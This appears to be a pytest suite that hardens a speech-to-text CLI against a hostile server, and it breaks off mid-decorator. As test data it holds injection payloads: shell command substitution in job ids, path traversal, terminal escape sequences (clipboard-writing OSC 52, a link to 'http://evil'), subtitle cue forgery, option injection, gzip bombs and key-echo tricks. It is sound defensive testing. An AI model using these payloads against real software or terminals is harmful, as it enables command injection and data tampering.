"""Nothing from the wire is trusted: stt in-process against a hostile server on loopback (tests/hostile.py)."""

from __future__ import annotations

import json
import os
import sqlite3
import threading
import time
from pathlib import Path

import pytest
from conftest import SAMPLE_TEXT, EmulatorHandle, one_error_line
from hostile import Conn, HostileServer, Request, deep_json, sample_result, swallow_first_request


def _ledger_ids(cli) -> list[str]:
    return [json.loads(line)["generation_id"] for line in cli("jobs", "--json").stdout.splitlines()]


# --- 1. Ids are data, never code or paths --------------------------------------------------------------
POISONED = [
    "$(touch${IFS}pwned)",
    "`touch pwned`",
    "../../../x",
    "..",
    "a/b",
    "id\x1b]0;owned\x07",
    "line\nbreak",
    "tab\tid",
    "x" * 129,
    "id with spaces",
    "ünïcode",
]


REAL_IDS = ["RlLz0hRdAs9voL5Qi1Pzr", "XY3D-mYpFxC-WIx-Lv3wh", "3f1c9a2e-1b2c-4d5e-8f90-0123456789ab"]


# --- 3. Clean text --------------------------------------------------------------------------------------
NASTY = (
    "Hello\x1b[2J\x1b[31mred\x1b[0m \x1b]0;pwned title\x07there \x1b]52;c;ZXZpbA==\x07clip "
    "\x9b31mc1\x9b0m back\x08\x08\x08space \u202eevil\u202c done\r\nend"
)


CONTROL_BYTES = ("\x1b", "\x07", "\x9b", "\x08", "\r", "\x9d")


def _nasty_result(speakers: bool) -> dict[str, object]:
    result = sample_result("placeholder words here")
    channel = result["results"]["channels"][0]["alternatives"][0]
    channel["transcript"] = NASTY
    channel["words"][0]["punctuated_word"] = "Hi\x1b]8;;http://evil\x07link\x1b]8;;\x07\x9b2J"
    if speakers:
        channel["words"][0]["speaker"] = 0
        channel["words"][1]["speaker"] = "0\n\n99\n00:00:00,000 --> 00:00:01,000\ninjected"
        channel["words"][2]["speaker"] = 0
    return result


@pytest.fixture(params=[False, True], ids=["plain", "speakers"])
def nasty(hostile: HostileServer, request: pytest.FixtureRequest) -> bool:
    result = _nasty_result(request.param)
    hostile.on_poll = lambda req, conn: conn.answer({"status": "completed", "result": result})
    return bool(request.param)


@pytest.mark.parametrize("bad", POISONED)
def test_a_poisoned_id_from_create_is_a_server_error_and_never_stored(
    cli, hostile: HostileServer, talk: Path, tmp_path: Path, bad: str
) -> None:
    hostile.on_create = lambda request, conn: conn.answer({"generation_id": bad, "status": "queued"})
    result = cli("submit", str(talk))
    assert result.exit_code == 5
    line = one_error_line(result.stderr)
    assert "not a job id stt accepts" in line
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "\t" not in result.stderr
    from stt_cli.api.wire import shown_id

    assert shown_id(bad) in line  # quoted and escaped: never raw, never a command to copy
    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()
    assert _ledger_ids(cli) == []  # never stored, so never fetched, completed or used in a name


def test_an_id_in_a_poll_answer_is_never_used_instead_of_the_one_asked(cli, hostile: HostileServer, talk: Path) -> None:
    def poll(request: Request, conn: Conn) -> None:
        conn.answer({"generation_id": "$(touch pwned)", "id": "../x", "status": "completed", "result": sample_result()})

    hostile.on_poll = poll
    result = cli("run", str(talk))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "hello world\n"
    [job_id] = _ledger_ids(cli)
    assert job_id == hostile.jobs[hostile.creates()[0].idempotency_key or ""]["id"]
    status = cli("status", job_id, "--json")
    assert json.loads(status.stdout)["generation_id"] == job_id


@pytest.mark.parametrize("good", REAL_IDS)
def test_real_id_shapes_are_accepted_and_printed_as_safe_commands(
    cli, hostile: HostileServer, talk: Path, good: str
) -> None:
    hostile.on_create = lambda request, conn: conn.answer({"generation_id": good})
    result = cli("run", str(talk))
    assert result.exit_code == 0, result.stderr
    assert f"stt fetch {good}" in result.stderr
    assert _ledger_ids(cli) == [good]


def test_an_id_that_starts_with_a_dash_is_a_job_never_an_option(
    cli, hostile: HostileServer, talk: Path, tmp_path: Path, monkeypatch
) -> None:
    """A short id starts with "-" one time in 64: the job is billed, so its id is kept; and
    `id=$(stt submit f) && stt fetch "$id"` must fetch it, never run `stt fetch -ocapture` (writing ./capture)."""
    monkeypatch.chdir(tmp_path)
    hostile.on_create = lambda request, conn: conn.answer({"generation_id": "-ocapture"})
    submitted = cli("submit", str(talk))
    assert submitted.exit_code == 0, submitted.stderr
    assert submitted.stdout.strip() == "-ocapture" and _ledger_ids(cli) == ["-ocapture"]
    pending = cli("status", "-ocapture")  # as a script would type it
    assert pending.exit_code == 0, pending.stderr
    fetched = cli("fetch", "-ocapture", "-f", "txt")
    assert fetched.exit_code == 0 and fetched.stdout == "hello world\n", fetched.stderr
    assert not (tmp_path / "capture").exists()
    # the command stt prints to resume puts the id after "--", where no parser reads an option
    hostile.on_poll = lambda request, conn: conn.answer({"generation_id": "-ocapture", "status": "queued"})
    pending = cli("fetch", "-ocapture", "--refresh", "--no-wait", "-o", "x.srt")
    assert pending.exit_code == 7
    assert "stt fetch --output x.srt -- -ocapture" in one_error_line(pending.stderr)
    assert cli("status", "--", "-ocapture").exit_code == 0
    # an option-like word that is no job of the ledger is still an option
    assert cli("status", "-ofile").exit_code == 2
    assert not (tmp_path / "file").exists()
    assert cli("jobs", "rm", "-ocapture", "--yes").exit_code == 0 and _ledger_ids(cli) == []


def test_fetch_writes_only_inside_the_output_dir(cli, emulator: EmulatorHandle, tmp_path: Path) -> None:
    out = tmp_path / "D"
    out.mkdir()
    result = cli("fetch", "../../../x", "-f", "srt", "--output-dir", str(out))
    assert result.exit_code == 2 and "is not a valid job id" in result.stderr
    assert list(tmp_path.rglob("x.srt")) == []


def test_ids_an_older_stt_stored_are_dropped_when_the_ledger_is_upgraded(cli, isolated_home: Path) -> None:
    path = isolated_home / "data" / "stt-cli" / "ledger.sqlite3"
    path.parent.mkdir(parents=True)
    db = sqlite3.connect(path)
    db.executescript(
        """CREATE TABLE jobs (id TEXT NOT NULL, host TEXT NOT NULL, created_at REAL NOT NULL, updated_at REAL NOT NULL,
        source TEXT NOT NULL, source_size INTEGER, source_sha256 TEXT, model TEXT NOT NULL, options TEXT NOT NULL,
        status TEXT NOT NULL, error TEXT, outputs TEXT NOT NULL DEFAULT '[]', result TEXT, PRIMARY KEY (host, id));
        PRAGMA user_version = 1;"""
    )
    for n, job_id in enumerate(["$(touch pwned)", "good-id-1", "../../x"]):
        db.execute(
            "INSERT INTO jobs VALUES (?, 'h:1', ?, ?, '/a.wav', 1, 'ab', 'm', '{}', 'completed', NULL, '[]', NULL)",
            (job_id, n, n),
        )
    db.commit()
    db.close()
    assert _ledger_ids(cli) == ["good-id-1"]


def test_a_doubly_encoded_or_unknown_encoding_is_refused(cli, hostile: HostileServer) -> None:
    import gzip

    twice = gzip.compress(gzip.compress(json.dumps({"status": "completed", "result": sample_result()}).encode()))
    hostile.on_poll = lambda request, conn: conn.answer(twice, headers={"Content-Encoding": "gzip, gzip"})
    result = cli("status", "abc123")
    assert result.exit_code == 5 and "content encoding stt does not read" in one_error_line(result.stderr)


def test_a_compressed_answer_within_the_ceiling_is_read(cli, hostile: HostileServer) -> None:
    import gzip
    import zlib

    body = json.dumps({"status": "completed", "result": sample_result("compressed words")}).encode()
    for encoding, data in (("gzip", gzip.compress(body)), ("deflate", zlib.compress(body))):
        hostile.on_poll = lambda request, conn, d=data, e=encoding: conn.answer(d, headers={"Content-Encoding": e})
        result = cli("fetch", "abc123", "--refresh")
        assert result.exit_code == 0, result.stderr
        assert result.stdout == "compressed words\n"


@pytest.mark.parametrize("where", ["poll", "error", "create"])
def test_json_nested_100_000_deep_is_a_server_error_not_a_bug(
    cli, hostile: HostileServer, talk: Path, where: str
) -> None:
    deep = deep_json()
    if where == "poll":
        hostile.on_poll = lambda request, conn: conn.answer(deep)
        result = cli("status", "abc123")
    elif where == "error":
        hostile.on_poll = lambda request, conn: conn.answer(b"[" * 100_000 + b"]" * 100_000, status=400)
        result = cli("status", "abc123")
        assert result.exit_code == 4
    else:
        hostile.on_create = lambda request, conn: conn.answer(deep)
        result = cli("submit", str(talk))
    assert result.exit_code in (4, 5)
    one_error_line(result.stderr)


def test_a_trickle_past_the_answer_deadline_is_a_server_error(
    cli, hostile: HostileServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("stt_cli.api.client.ANSWER_DEADLINE", 1.0)
    hostile.on_poll = lambda request, conn: conn.trickle(b'{"status": "completed"}' * 10, 0.2)
    started = time.monotonic()
    result = cli("status", "abc123")
    assert result.exit_code == 5
    assert "too slowly" in one_error_line(result.stderr)
    assert time.monotonic() - started < 4


def test_a_large_answer_at_a_fair_pace_is_not_cut(cli, hostile: HostileServer, monkeypatch: pytest.MonkeyPatch) -> None:
    """The deadline grows with the bytes that arrive: a big result on a slow link still gets through."""
    monkeypatch.setattr("stt_cli.api.client.ANSWER_DEADLINE", 0.5)
    monkeypatch.setattr("stt_cli.api.client.ANSWER_MIN_RATE", 64 * 1024)
    body = json.dumps({"status": "completed", "result": sample_result("fair " * 30000)}).encode()  # 1.8 MB

    def poll(request: Request, conn: Conn) -> None:
        conn.head(200, length=len(body))
        for start in range(0, len(body), 256 * 1024):  # 256 KB every 0.3 s: ~0.85 MB/s, well above the rate
            conn.send(body[start : start + 256 * 1024])
            time.sleep(0.3)

    hostile.on_poll = poll
    result = cli("fetch", "abc123", "--refresh")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("fair fair")


def test_text_output_carries_no_escape_sequence_or_control(cli, nasty: bool, talk: Path) -> None:
    result = cli("run", str(talk), "-f", "text")
    assert result.exit_code == 0, result.stderr
    assert not any(ch in result.stdout for ch in CONTROL_BYTES)
    assert "http://evil" not in result.stdout
    if nasty:  # speaker turns are made of the words
        assert result.stdout.startswith("Speaker 0: Hilink\n")
        assert "\n\n" not in result.stdout and "injected" not in result.stdout.split("\n")[1][40:]
    else:  # the transcript as the service wrote it, without what a terminal would act on
        assert "pwned title" not in result.stdout and "ZXZpbA" not in result.stdout  # OSC payloads go whole
        for word in ("Hello", "red", "there", "clip", "c1", "space", "\u202eevil", "done\nend"):
            assert word in result.stdout


def test_subtitles_carry_no_control_and_stay_parseable(cli, nasty: bool, talk: Path, tmp_path: Path) -> None:
    import srt
    import webvtt

    for fmt in ("srt", "vtt"):
        out = tmp_path / f"nasty.{fmt}"
        result = cli("run", str(talk), "-f", fmt, "-o", str(out), "--force")
        assert result.exit_code == 0, result.stderr
        text = out.read_text(encoding="utf-8")
        assert not any(ch in text for ch in CONTROL_BYTES)
        if fmt == "srt":
            cues = list(srt.parse(text))
            assert len(cues) >= 1 and all("-->" not in c.content for c in cues)
            assert not any(c.index == 99 for c in cues)  # a speaker label cannot forge a cue
        else:
            assert len(webvtt.from_string(text).captions) >= 1


def test_json_output_is_the_payload_with_c1_and_bidi_escaped(cli, nasty: bool, talk: Path) -> None:
    result = cli("run", str(talk), "-f", "json")
    assert result.exit_code == 0, result.stderr
    assert not any(ch in result.stdout for ch in ("\x1b", "\x9b", "\x07", "\u202e"))
    assert "\\u009b" in result.stdout and "\\u202e" in result.stdout and "\\u001b" in result.stdout
    assert json.loads(result.stdout)["results"]["channels"][0]["alternatives"][0]["transcript"] == NASTY


def test_server_text_on_stderr_is_one_clean_line(cli, hostile: HostileServer, talk: Path) -> None:
    hostile.on_poll = lambda request, conn: conn.answer(
        {"status": "error", "error": {"name": "x", "message": "bad \x1b]0;t\x07audio\u202e\n\x9b2Jnext"}}
    )
    result = cli("run", str(talk))
    assert result.exit_code == 6
    line = one_error_line(result.stderr)
    assert "bad audio" in line and "next" in line
    assert not any(ch in result.stderr for ch in (*CONTROL_BYTES, "\u202e"))


def test_unknown_status_words_are_shown_clean(cli, hostile: HostileServer) -> None:
    hostile.on_poll = lambda request, conn: conn.answer({"status": "\x1b[2Jweird\u202e" + "x" * 500})
    result = cli("status", "abc123", "--json")
    assert result.exit_code == 0
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr
    assert len(json.loads(result.stdout)["raw_status"]) <= 40


def test_no_answer_after_the_whole_body_is_an_unknown_outcome_kept_for_the_rerun(
    cli, hostile: HostileServer, talk: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("stt_cli.api.client.CREATE_ANSWER_DEADLINE", 0.5)
    swallow_first_request(hostile)
    result = cli("run", str(talk))
    assert result.exit_code == 5
    line = one_error_line(result.stderr)
    assert "may or may not exist" in line and "same Idempotency-Key" in result.stderr
    listed = cli("jobs")  # the create of unknown outcome is shown, with its key
    assert hostile.creates()[0].idempotency_key in listed.stderr and "may have reached" in listed.stderr
    again = cli("run", str(talk))
    assert again.exit_code == 0, again.stderr
    assert len(hostile.jobs) == 1 and len(hostile.creates()) == 2


# --- 5. The ledger follows the server ------------------------------------------------------------------
def test_a_job_the_service_forgot_is_marked_gone_and_replaced(cli, emulator: EmulatorHandle, talk: Path) -> None:
    first = cli("submit", str(talk)).stdout.strip()
    emulator.control("expire", {"generation_id": first})
    result = cli("run", str(talk))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == SAMPLE_TEXT + "\n"
    assert f"job {first} is gone from the service" in result.stderr and "creating a new one" in result.stderr
    assert len(emulator.creates()) == 2
    rows = {json.loads(line)["generation_id"]: json.loads(line) for line in cli("jobs", "--json").stdout.splitlines()}
    assert rows[first]["status"] == "gone"
    again = cli("run", str(talk))  # the new job is reused; the gone one never again
    assert again.exit_code == 0 and len(emulator.creates()) == 2
    assert cli("status", first).exit_code == 4


# --- 6. Files land only where the user said -------------------------------------------------------------
def test_a_fifo_is_written_through_and_stays_a_fifo(cli, emulator: EmulatorHandle, talk: Path, tmp_path: Path) -> None:
    import stat

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = cli("run", str(talk), "-o", str(fifo))
    reader.join(10)
    assert result.exit_code == 0, result.stderr
    assert got == [(SAMPLE_TEXT + "\n").encode()]
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


def test_dev_stdout_is_stdout(cli, emulator: EmulatorHandle, talk: Path) -> None:
    result = cli("run", str(talk), "-o", "/dev/stdout", "--force")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == SAMPLE_TEXT + "\n"


def test_names_from_sources_never_start_with_a_dot_or_hold_a_separator(
    cli, emulator: EmulatorHandle, tmp_path: Path
) -> None:
    from conftest import write_wav

    hidden = write_wav(tmp_path / "in" / "..hidden.wav", 0.5)
    plain = write_wav(tmp_path / "in" / "plain.wav", 0.6, tone=3)
    out = tmp_path / "out"
    out.mkdir()
    result = cli("run", str(hidden), str(plain), "--output-dir", str(out))
    assert result.exit_code == 0, result.stderr
    assert sorted(p.name for p in out.iterdir()) == ["hidden.txt", "plain.txt"]


def test_temp_files_of_killed_writes_and_spools_are_swept(
    cli, emulator: EmulatorHandle, talk: Path, tmp_path: Path
) -> None:
    dead = 2**22 + 12345  # above any pid_max: no such process
    stale = tmp_path / f".out.txt.stt-{dead}-abc123.tmp"
    stale.write_text("half")
    mine = tmp_path / ".someone-else.tmp"
    mine.write_text("not ours")
    assert cli("run", str(talk), "-o", str(tmp_path / "out.txt")).exit_code == 0
    assert not stale.exists() and mine.exists()
    spool = tmp_path / "cache" / "stt-cli" / "spool"
    spool.mkdir(parents=True, exist_ok=True)  # the run's audio preparation may have made it
    left = spool / f".stdin-audio.stt-{dead}-xyz.tmp"
    left.write_bytes(b"RIFF")
    assert cli("run", "-", "--resubmit", input=talk.read_bytes()).exit_code == 0
    assert list(spool.iterdir()) == []


def test_the_stdin_spool_honours_max_size(cli, emulator: EmulatorHandle, tmp_path: Path) -> None:
    result = cli("run", "-", "--max-size", "1k", input=b"RIFF" + b"\0" * 5000)
    assert result.exit_code == 2 and "over the --max-size" in result.stderr
    assert list((tmp_path / "cache" / "stt-cli" / "spool").iterdir()) == []


def test_a_key_file_symlink_loop_is_one_line(cli, isolated_home: Path) -> None:
    directory = isolated_home / "config" / "stt-cli"
    directory.mkdir(parents=True)
    (directory / "credentials.json").symlink_to(directory / "credentials.json")
    result = cli("auth", "status")
    assert result.exit_code == 3
    assert "symbolic links" in one_error_line(result.stderr)


def test_a_non_ascii_key_is_refused_with_the_reason(
    cli, emulator: EmulatorHandle, monkeypatch: pytest.MonkeyPatch
) -> None:
    login = cli("auth", "login", "--no-check", input="sk-cléf-0123456789\n")
    assert login.exit_code == 2 and "non-ASCII" in one_error_line(login.stderr)
    monkeypatch.setenv("AIML_API_KEY", "sk-cléf-0123456789")
    used = cli("status", "abc123")
    assert used.exit_code == 3 and "$AIML_API_KEY" in one_error_line(used.stderr) and "non-ASCII" in used.stderr
    assert emulator.requests() == []


# --- 8. Batches that scale -----------------------------------------------------------------------------
def test_skip_existing_follows_the_ledger_when_names_collide(cli, emulator: EmulatorHandle, tmp_path: Path) -> None:
    from conftest import write_wav

    folder = tmp_path / "in"
    mp3 = write_wav(folder / "a.mp3", 0.5, tone=1)
    wav = write_wav(folder / "a.wav", 0.6, tone=2)
    out = tmp_path / "out"
    out.mkdir()
    first = cli("run", str(mp3), str(wav), "--output-dir", str(out), "--audio-prep", "off")  # sha256: the files' own
    assert first.exit_code == 0, first.stderr
    assert sorted(p.name for p in out.iterdir()) == ["a-2.txt", "a.txt"]
    flac = write_wav(folder / "a.flac", 0.7, tone=3)
    again = cli(
        "run", str(flac), str(mp3), str(wav), "--output-dir", str(out), "--skip-existing", "--audio-prep", "off"
    )
    assert again.exit_code == 0, again.stderr
    assert "1 done, 0 failed, 2 skipped of 3" in again.stderr
    assert sorted(p.name for p in out.iterdir()) == ["a-2.txt", "a-3.txt", "a.txt"]
    assert len(emulator.creates()) == 3  # the new file only
    created = [c["sha256"] for c in emulator.creates()]
    import hashlib

    assert created[-1] == hashlib.sha256(flac.read_bytes()).hexdigest()


# --- found by an adversarial pass ---------------------------------------------------------------------
def test_a_key_the_server_echoes_is_never_shown(cli, hostile: HostileServer, monkeypatch: pytest.MonkeyPatch) -> None:
    key = "sk-live-ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    monkeypatch.setenv("AIML_API_KEY", key)
    hostile.on_poll = lambda request, conn: conn.answer({"status": "failed", "error": f"rejected Bearer {key}"})
    failed = cli("fetch", "abc123")
    assert failed.exit_code == 6 and key not in failed.stderr and "****" in failed.stderr
    status = cli("status", "abc123", "--json")
    assert key not in status.stdout and key not in cli("jobs", "--json").stdout
    hostile.on_poll = lambda request, conn: conn.answer({"message": "x" * 470 + f" key {key} is bad"}, status=401)
    refused = cli("status", "abc123")
    assert refused.exit_code == 3 and key[:12] not in refused.stderr
    hostile.on_poll = lambda request, conn: conn.answer({"status": "completed", "result": {key: 1, "message": key}})
    shape = cli("fetch", "abc123", "--refresh")
    assert shape.exit_code == 5 and key not in shape.stderr


def test_lone_surrogates_from_the_server_are_replaced_not_a_crash(cli, hostile: HostileServer, talk: Path) -> None:
    body = b'{"status": "completed", "result": {"text": "hi \\ud800 there \\ud83d\\ude00"}}'
    hostile.on_poll = lambda request, conn: conn.answer(body)
    result = cli("run", str(talk))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "hi \ufffd there \U0001f600\n"


def test_names_that_are_not_utf8_are_refused_before_anything_is_sent(
    cli, emulator: EmulatorHandle, talk: Path, tmp_path: Path
) -> None:
    bad = os.fsdecode(b"caf\xe9.wav")
    (tmp_path / bad).write_bytes(b"RIFF")
    for args in (["run", bad], ["run", str(talk), "-o", os.fsdecode(b"out\xe9.txt")], ["config", "set", "model", bad]):
        result = cli(*args)
        assert result.exit_code == 2, args
        assert "not valid UTF-8" in one_error_line(result.stderr)
    assert emulator.requests() == []


@pytest.mark.parametrize("value", ["\u00b2", "9" * 40, "Fri, 31 Dec 9999 23:59:59 GMT"])
def test_an_odd_retry_after_is_one_line(cli, hostile: HostileServer, value: str) -> None:
    hostile.on_poll = lambda request, conn: conn.answer({"message": "busy"}, status=503, headers={"Retry-After": value})
    result = cli("status", "abc123")
    assert result.exit_code == 5
    one_error_line(result.stderr)


def test_the_text_cleaner_is_linear_on_unterminated_introducers() -> None:
    from stt_cli.api.wire import clean_text, sanitize

    for nasty in ("\x9d" * 200_000, "\x1b]" * 100_000, "\x9b1" * 100_000, "\x90a" * 100_000):
        assert "\x9d" not in clean_text(nasty) and "\x1b" not in clean_text(nasty)
        assert len(sanitize(nasty, 100)) <= 100


@pytest.mark.parametrize("tail", ["zeros", "empty-blocks"])
def test_a_gzip_answer_that_never_ends_is_cut_at_the_raw_ceiling(
    cli, hostile: HostileServer, monkeypatch: pytest.MonkeyPatch, tail: str
) -> None:
    import gzip

    monkeypatch.setattr("stt_cli.api.client.MAX_ANSWER_BYTES", 1 << 20)
    monkeypatch.setattr("stt_cli.api.client.RAW_SLACK", 1 << 16)

    def poll(request: Request, conn: Conn) -> None:
        conn.head(200, {"Content-Encoding": "gzip"})
        if tail == "zeros":
            conn.send(gzip.compress(b'{"status": "processing"}'))
            piece = b"\0" * 65536
        else:
            conn.send(gzip.compress(b"")[:10])  # a gzip header, then empty stored deflate blocks for ever
            piece = b"\x00\x00\x00\xff\xff" * 10000
        while conn.send(piece):
            pass

    hostile.on_poll = poll
    started = time.monotonic()
    result = cli("status", "abc123")
    assert result.exit_code == 5 and "before decompression" in one_error_line(result.stderr)
    assert time.monotonic() - started < 20


def test_a_completed_result_the_ledger_kept_is_never_paid_for_again(cli, emulator: EmulatorHandle, talk: Path) -> None:
    assert cli("run", str(talk)).exit_code == 0
    job_id = emulator.creates()[0]["generation_id"]
    emulator.control("expire", {"generation_id": job_id})
    assert cli("status", job_id).exit_code == 4  # the ledger now says gone
    again = cli("run", str(talk))
    assert again.exit_code == 0 and again.stdout == SAMPLE_TEXT + "\n"
    assert len(emulator.creates()) == 1


def test_a_name_too_long_for_the_file_system_is_refused_before_the_upload(
    cli, emulator: EmulatorHandle, tmp_path: Path
) -> None:
    from conftest import write_wav

    long = write_wav(tmp_path / ("【公式】東京" * 13 + ".wav"), 0.5)  # 238 bytes: fits, its temp name would not
    out = tmp_path / "subs"
    out.mkdir()
    result = cli("run", str(long), str(write_wav(tmp_path / "b.wav", 0.6, tone=2)), "--output-dir", str(out))
    assert result.exit_code == 0, result.stderr
    assert len(list(out.iterdir())) == 2
    refused = cli("run", str(long), "-o", str(tmp_path / ("x" * 300 + ".txt")))
    assert refused.exit_code == 2 and "too long" in one_error_line(refused.stderr)
    assert len(emulator.creates()) == 2


def test_json_output_never_holds_infinity_or_nan(cli, hostile: HostileServer) -> None:
    for number in (b"1e400", b"NaN", b"-Infinity"):
        body = b'{"status": "completed", "result": {"text": "x", "confidence": ' + number + b"}}"
        hostile.on_poll = lambda request, conn, b=body: conn.answer(b)
        result = cli("fetch", "abc123", "-f", "json", "--refresh")
        assert result.exit_code == 5, number
        one_error_line(result.stderr)


def test_huge_word_times_are_repaired_not_a_crash(cli, hostile: HostileServer) -> None:
    result = sample_result("one two three")
    result["results"]["channels"][0]["alternatives"][0]["words"][1]["start"] = 1e306
    hostile.on_poll = lambda request, conn: conn.answer({"status": "completed", "result": result})
    for fmt in ("srt", "vtt"):
        done = cli("fetch", "abc123", "-f", fmt, "--refresh")
        assert done.exit_code == 0, done.stderr
        assert "invalid start or end" in done.stderr


def test_keys_of_an_unknown_shape_are_short_and_on_one_line(cli, hostile: HostileServer) -> None:
    forged = "x\nerror: the API key was refused (HTTP 401) (run stt auth login)" + "y" * 5000
    hostile.on_poll = lambda request, conn: conn.answer({"status": "completed", "result": {forged: 1}})
    result = cli("fetch", "abc123", "--refresh")
    assert result.exit_code == 5
    line = one_error_line(result.stderr)
    assert len(line) < 600  # the forged text is shown cut, inside the one line: no second "error:" line


def test_control_words_never_break_a_subtitle(cli, hostile: HostileServer, tmp_path: Path) -> None:
    import srt

    result = sample_result("Hello there. BELLS 00:00:05,000 ARROW 00:00:09,000 INJECTED")
    words = result["results"]["channels"][0]["alternatives"][0]["words"]
    words[2]["punctuated_word"] = "\x07" * 20
    words[4]["punctuated_word"] = "--\x07>"
    hostile.on_poll = lambda request, conn: conn.answer({"status": "completed", "result": result})
    out = tmp_path / "x.srt"
    done = cli("fetch", "abc123", "-f", "srt", "-o", str(out), "--max-lines", "4", "--max-line-width", "20")
    assert done.exit_code == 0, done.stderr
    text = out.read_text()
    cues = list(srt.parse(text))
    assert all("-->" not in c.content and c.content.strip() == c.content for c in cues)
    assert all(line.strip() for c in cues for line in c.content.split("\n"))
    assert "  " not in text


def test_concurrency_over_its_maximum_is_refused_when_set(cli) -> None:
    result = cli("config", "set", "concurrency", "100000")
    assert result.exit_code == 2 and "maximum" in one_error_line(result.stderr)


def test_o_with_a_trailing_slash_names_a_directory(cli, emulator: EmulatorHandle, talk: Path) -> None:
    result = cli("run", str(talk), "-o", "newdir/")
    assert result.exit_code == 2 and "names a directory" in one_error_line(result.stderr)
    assert not Path("newdir").exists() and emulator.requests() == []


def test_a_key_file_that_is_a_fifo_is_refused_not_waited_on(cli, isolated_home: Path) -> None:
    directory = isolated_home / "config" / "stt-cli"
    directory.mkdir(parents=True)
    os.mkfifo(directory / "credentials.json", 0o600)
    result = cli("auth", "status")
    assert result.exit_code == 2 and "not a regular file" in one_error_line(result.stderr)


def test_a_damaged_ledger_row_is_one_line(cli, isolated_home: Path) -> None:
    from stt_cli.core.ledger import Ledger

    with Ledger() as ledger:
        ledger.add("row-1", "h:1", "/a.wav", "m", {})
    db = sqlite3.connect(isolated_home / "data" / "stt-cli" / "ledger.sqlite3")
    db.execute("UPDATE jobs SET options='{not json'")
    db.commit()
    db.close()
    result = cli("jobs")
    assert result.exit_code == 2 and "stt jobs rm row-1" in one_error_line(result.stderr)


def test_colliding_names_do_not_depend_on_the_order_of_the_arguments(
    cli, emulator: EmulatorHandle, tmp_path: Path
) -> None:
    from conftest import write_wav

    a = write_wav(tmp_path / "monday" / "call.wav", 1.0)
    b = write_wav(tmp_path / "tuesday" / "call.wav", 1.3)
    one, two = tmp_path / "one", tmp_path / "two"
    one.mkdir()
    two.mkdir()
    assert cli("run", str(a), str(b), "--output-dir", str(one)).exit_code == 0
    assert cli("run", str(b), str(a), "--output-dir", str(two)).exit_code == 0
    for name in ("call.txt", "call-2.txt"):
        assert (one / name).read_text() == (two / name).read_text()


def test_more_words_than_any_recording_are_refused_not_rendered(cli, hostile: HostileServer) -> None:
    import gzip

    word = b'{"word":"a","start":1,"end":1},'
    body = b'{"status":"completed","result":{"results":{"channels":[{"alternatives":[{"words":[' + word * 1_000_001
    body = body[:-1] + b"]}]}]}}}"
    packed = gzip.compress(body, 1)
    hostile.on_poll = lambda request, conn: conn.answer(packed, headers={"Content-Encoding": "gzip"})
    result = cli("fetch", "abc123", "-f", "srt", "--refresh")
    assert result.exit_code == 5 and "90 hours" in one_error_line(result.stderr)


def test_an_escaped_or_reason_phrase_key_is_masked(cli, hostile: HostileServer, talk: Path, monkeypatch) -> None:
    key = "sk-adv2-secret-0123456789abcdef"
    monkeypatch.setenv("AIML_API_KEY", key)
    escaped = key.replace("-", "\\u002d")
    hostile.on_poll = lambda request, conn: conn.answer(
        ('{"status": "failed", "error": "invalid key ' + escaped + '"}').encode()
    )
    failed = cli("fetch", "abc123", "-v")
    assert failed.exit_code == 6 and key not in failed.stderr and "****" in failed.stderr
    assert key not in cli("jobs", "--json").stdout

    def reason(request: Request, conn: Conn) -> None:
        conn.send(f"HTTP/1.1 400 bad key {key}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode())

    hostile.on_create = reason
    refused = cli("submit", str(talk), "-v")
    assert refused.exit_code == 4 and key not in refused.stderr
    hostile.on_create = lambda request, conn: conn.answer(('{"generation_id": "' + escaped + '"}').encode())
    as_id = cli("submit", str(talk))
    assert as_id.exit_code == 5 and key not in as_id.stderr and key not in as_id.stdout


@pytest.mark.parametrize("where", ["create", "poll"])
def test_deep_json_inside_an_error_message_is_not_a_bug(cli, hostile: HostileServer, talk: Path, where: str) -> None:
    body = b'{"message": "' + b"[" * 200_000 + b'"}'
    if where == "create":
        hostile.on_create = lambda request, conn: conn.answer(body, status=400)
        result = cli("submit", str(talk))
    else:
        hostile.on_poll = lambda request, conn: conn.answer(body, status=404)
        result = cli("status", "abc123")
    assert result.exit_code == 4
    one_error_line(result.stderr)


def test_a_refused_create_leaves_no_unknown_outcome(cli, hostile: HostileServer, talk: Path) -> None:
    hostile.on_create = lambda request, conn: conn.answer({"message": "bad key"}, status=401)
    assert cli("submit", str(talk)).exit_code == 3
    listed = cli("jobs")
    assert "may have reached" not in listed.stderr
    hostile.on_create = hostile.honest_create
    again = cli("submit", str(talk))
    assert again.exit_code == 0 and "earlier create" not in again.stderr
    first, second = hostile.creates()
    assert first.idempotency_key != second.idempotency_key  # nothing to resend: a fresh key


def test_one_id_for_two_sources_never_overwrites_the_first(cli, hostile: HostileServer, tmp_path: Path) -> None:
    from conftest import write_wav

    a = write_wav(tmp_path / "a.wav", 0.5, tone=1)
    b = write_wav(tmp_path / "b.wav", 0.6, tone=2)
    hostile.on_create = lambda request, conn: conn.answer({"generation_id": "SAMEID123"})
    assert cli("run", str(a), "-o", "a.txt").exit_code == 0
    second = cli("run", str(b), "-o", "b.txt")
    assert second.exit_code == 5 and "an id it gave before for" in one_error_line(second.stderr)
    again = cli("run", str(a), "-o", "a.txt")  # a.wav's row, result and output are intact
    assert again.exit_code == 0 and "already holds this result" in again.stderr
    assert len(hostile.creates()) == 2


def test_a_number_past_the_largest_double_without_an_exponent_is_refused(cli, hostile: HostileServer) -> None:
    body = b'{"status": "completed", "result": {"text": "x", "duration": 1' + b"0" * 400 + b".0}}"
    hostile.on_poll = lambda request, conn: conn.answer(body)
    result = cli("fetch", "abc123", "-f", "json", "--refresh")
    assert result.exit_code == 5 and "Infinity" not in result.stdout


@pytest.mark.parametrize(
    "flags",
